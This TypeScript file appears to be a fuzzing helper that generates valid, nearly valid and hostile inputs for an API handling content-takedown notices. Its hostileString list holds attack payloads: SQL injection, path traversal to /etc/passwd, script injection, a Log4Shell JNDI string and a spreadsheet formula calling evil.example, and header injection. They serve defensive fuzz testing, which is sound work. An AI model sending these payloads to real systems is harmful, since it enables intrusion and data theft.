import fc from 'fast-check';

/**
 * fast-check arbitraries from the JSON Schemas of the OpenAPI document: values a schema
 * accepts, values it nearly accepts (one field wrong, missing or extra), and hostile ones.
 */
export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  propertyNames?: JsonSchema;
  items?: JsonSchema;
  minItems?: number;
  maxItems?: number;
  minLength?: number;
  maxLength?: number;
  pattern?: string;
  format?: string;
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  default?: unknown;
}

/**
 * Values a field of this name takes in real use: a random string almost never passes the
 * domain's own checks (a t.me link, a known category), and then the handler is never reached.
 */
const HINTS: Record<string, fc.Arbitrary<unknown>> = {
  targets: fc.array(
    fc.oneof(
      fc.nat({ max: 9999 }).map((n) => `https://t.me/fuzz_world/${n}`),
      fc.stringMatching(/^[a-z][a-z0-9_]{4,20}$/).map((s) => `@${s}`),
      fc.constant('https://example.org/fuzz/page'),
      fc.constant('https://t.me/+AbCdEfGhIjKlMnOp'),
    ),
    { minLength: 1, maxLength: 3 },
  ),
  category: fc.constantFrom('terrorism', 'violent_extremism', 'hoax', 'piracy'),
  jurisdiction: fc.constantFrom('ID', 'EU'),
  language: fc.constantFrom('id', 'en'),
  lang: fc.constantFrom('id', 'en'),
  email: fc.constantFrom('someone@komdigi.example', 'admin@platform.example', 'new-person@ngo.example'),
  org: fc.constantFrom('komdigi', 'platform', 'ngo'),
  bank: fc.constantFrom('fuzz-bank'),
  url: fc.constantFrom('https://hooks.example.org/tapis', 'http://127.0.0.1:9/hook'),
  explanation: fc.constant('Synthetic fuzzing explanation that is long enough to pass.'),
  good_faith: fc.constant(true),
  password: fc.constantFrom('tapis-demo-2026', 'wrong-password-1'),
  roles: fc.subarray(['flagger'], { minLength: 1 }),
  platform: fc.constant('telegram'),
};

const textAlphabet = fc.oneof(
  { weight: 6, arbitrary: fc.string({ unit: 'grapheme-ascii', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  { weight: 1, arbitrary: fc.constantFrom('Laporan sintetis', 'ملف', 'テスト', '😀 emoji') },
);

function typeOf(schema: JsonSchema): string | undefined {
  return Array.isArray(schema.type) ? schema.type[0] : schema.type;
}

export function valid(schema: JsonSchema, name?: string, depth = 0): fc.Arbitrary<unknown> {
  const generated = validBySchema(schema, depth);
  const hint = name ? HINTS[name] : undefined;
  return hint ? fc.oneof({ weight: 3, arbitrary: hint }, { weight: 1, arbitrary: generated }) : generated;
}

function validBySchema(schema: JsonSchema, depth: number): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  const branches = schema.anyOf ?? schema.oneOf;
  if (branches) return fc.oneof(...branches.map((b) => validBySchema(b, depth)));
  if (schema.allOf?.length) return validBySchema(schema.allOf[0]!, depth);
  switch (typeOf(schema)) {
    case 'null':
      return fc.constant(null);
    case 'boolean':
      return fc.boolean();
    case 'integer':
      return fc.integer({
        min: Math.max(schema.minimum ?? -(2 ** 31), -(2 ** 31)),
        max: Math.min(schema.maximum ?? 2 ** 31 - 1, 2 ** 31 - 1),
      });
    case 'number': {
      const min = schema.minimum ?? schema.exclusiveMinimum ?? -1e6;
      const max = schema.maximum ?? schema.exclusiveMaximum ?? 1e6;
      return fc
        .double({ min, max, noNaN: true, noDefaultInfinity: true })
        .filter((n) => n !== schema.exclusiveMinimum && n !== schema.exclusiveMaximum);
    }
    case 'string':
      return validString(schema);
    case 'array': {
      const minLength = schema.minItems ?? 0;
      const maxLength = Math.max(minLength, Math.min(schema.maxItems ?? 3, 3));
      return fc.array(depth > 4 ? fc.constant('x') : valid(schema.items ?? {}, undefined, depth + 1), {
        minLength,
        maxLength,
      });
    }
    case 'object':
      return validObject(schema, depth);
    default:
      return depth > 3 ? fc.constant(null) : fc.jsonValue({ maxDepth: 2 });
  }
}

function validString(schema: JsonSchema): fc.Arbitrary<string> {
  const min = schema.minLength ?? 0;
  const max = schema.maxLength ?? 200;
  const fits = (s: string) => s.length >= min && s.length <= max;
  if (schema.format === 'date-time')
    return fc
      .date({
        min: new Date('2020-01-01T00:00:00Z'),
        max: new Date('2030-12-31T00:00:00Z'),
        noInvalidDate: true,
      })
      .map((d) => d.toISOString());
  if (schema.format === 'email') return HINTS.email as fc.Arbitrary<string>;
  if (schema.format === 'uri') return fc.webUrl().filter(fits);
  if (schema.pattern) {
    let pattern: RegExp | null = null;
    try {
      pattern = new RegExp(schema.pattern);
    } catch {
      pattern = null;
    }
    if (pattern) {
      const matching = fc.stringMatching(pattern).filter(fits);
      return min > 0 || max < 200 ? matching : matching;
    }
  }
  return fc
    .tuple(textAlphabet, fc.string({ minLength: min, maxLength: Math.min(max, min + 40) }))
    .map(([a, b]) => (a.length >= min && a.length <= max ? a : b))
    .filter(fits);
}

function validObject(schema: JsonSchema, depth: number): fc.Arbitrary<Record<string, unknown>> {
  const properties = schema.properties ?? {};
  if (Object.keys(properties).length === 0 && typeof schema.additionalProperties === 'object') {
    const keys = schema.propertyNames ? validString(schema.propertyNames) : fc.string({ maxLength: 20 });
    return fc.dictionary(keys, validBySchema(schema.additionalProperties, depth + 1), { maxKeys: 3 });
  }
  const record: Record<string, fc.Arbitrary<unknown>> = {};
  for (const [key, value] of Object.entries(properties)) record[key] = valid(value, key, depth + 1);
  return fc.record(record, { requiredKeys: schema.required ?? [] }) as fc.Arbitrary<Record<string, unknown>>;
}

/** Strings that have broken servers: huge, NUL, bidi and zero-width, lone surrogates, injection. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    'a\u0000b',
    '\u202Egnp.exe',
    '\u200B\u200C\u200D\uFEFF',
    '\u2066admin\u2069',
    '\uD800',
    '\uDFFF lone',
    "' or 1=1 --",
    '"; drop table notices; --',
    '../../../../etc/passwd',
    '%00',
    '%zz',
    '<script>alert(1)</script>',
    '=HYPERLINK("http://evil.example")',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection payload, as sent.
    '${jndi:ldap://evil.example/a}',
    '__proto__',
    'constructor',
    'toString',
    'valueOf',
    'hasOwnProperty',
    '__defineGetter__',
    'NaN',
    'Infinity',
    '-0',
    '1e400',
    '\r\n\r\nX-Injected: 1',
    't.мe',
    'https://t.мe/channel/1',
    'ﬀ'.repeat(100),
    'e\u0301'.repeat(200),
  ),
  fc.nat({ max: 5 }).map((n) => 'A'.repeat([300, 5_000, 70_000, 250_000, 1_100_000, 4097][n]!)),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
);

export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(
    2 ** 31,
    2 ** 31 - 1,
    -(2 ** 31) - 1,
    2 ** 32,
    2 ** 53,
    2 ** 53 + 2,
    -(2 ** 53) - 2,
    2 ** 63,
    1e308,
    -1e308,
    5e-324,
    -0,
    0,
    -1,
    0.5,
    Number.MAX_SAFE_INTEGER,
  ),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

/** Any JSON value a hostile client might send where something else was expected. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileString },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}, [[]], [{}], { '': '' }) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileString, hostileString, { maxKeys: 3 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.nat({ max: 3000 }).map((n) => deep(n)) },
);

function deep(n: number): unknown {
  let value: unknown = 1;
  for (let i = 0; i < n; i++) value = i % 2 ? [value] : { a: value };
  return value;
}

/** One change to a valid object: a field missing, wrong, or unknown. */
export function nearlyValid(schema: JsonSchema): fc.Arbitrary<unknown> {
  const base = valid(schema);
  const keys = Object.keys(schema.properties ?? {});
  if (typeOf(schema) !== 'object' || keys.length === 0) return fc.oneof(base, hostileValue);
  return fc
    .tuple(
      base,
      fc.constantFrom('drop', 'wrong', 'extra', 'wrong-type', 'array-for-object'),
      fc.constantFrom(...keys),
      hostileValue,
      fc.oneof(fc.constantFrom('unknown_field', '__proto__', 'constructor', 'Explanation'), hostileString),
    )
    .map(([value, how, key, wrong, extraKey]) => {
      if (typeof value !== 'object' || value === null || Array.isArray(value)) return wrong;
      const copy: Record<string, unknown> = { ...(value as Record<string, unknown>) };
      switch (how) {
        case 'drop':
          delete copy[key];
          return copy;
        case 'wrong':
          copy[key] = wrong;
          return copy;
        case 'wrong-type':
          copy[key] = flipType(copy[key]);
          return copy;
        case 'extra':
          // JSON.parse sees a __proto__ key as an own property; so does our payload text.
          Object.defineProperty(copy, extraKey, { value: wrong ?? 1, enumerable: true, configurable: true });
          return copy;
        default:
          return [copy];
      }
    });
}

function flipType(value: unknown): unknown {
  if (typeof value === 'string') return value.length > 0 && /^\d+$/.test(value) ? Number(value) : [value];
  if (typeof value === 'number') return String(value);
  if (typeof value === 'boolean') return value ? 'true' : 0;
  if (Array.isArray(value)) return value[0] ?? {};
  if (value && typeof value === 'object') return JSON.stringify(value);
  return 'null';
}
